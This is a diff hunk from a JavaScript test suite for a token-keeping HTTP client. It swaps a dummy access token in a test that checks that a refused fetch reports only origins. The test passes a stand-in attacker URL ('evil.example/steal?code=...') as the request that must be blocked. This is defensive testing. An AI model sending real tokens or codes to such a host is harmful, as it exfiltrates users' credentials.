@@ -440,8 +440,8 @@ test("no error the keeper throws or reports carries token text (setTokens, refre
 
 test("ERR_FETCH_NOT_ALLOWED names the refused URL's origin and the allowedOrigins in force, never its path or query", async () => {
   const keeper = new tk.TokenKeeper({ allowedOrigins: ["https://api.example/v2/", "https://files.example"] });
-  keeper.setTokens({ accessToken: "at-not-allowed-8Qz", expiresIn: 600 });
-  recordToken("at-not-allowed-8Qz");
+  keeper.setTokens({ accessToken: "at-7Qz9Kp2Lm4Xw", expiresIn: 600 });
+  recordToken("at-7Qz9Kp2Lm4Xw");
   const error = await keeper.fetch("https://evil.example/steal?code=abc123#frag").then(
     () => null,
     (e) => e,
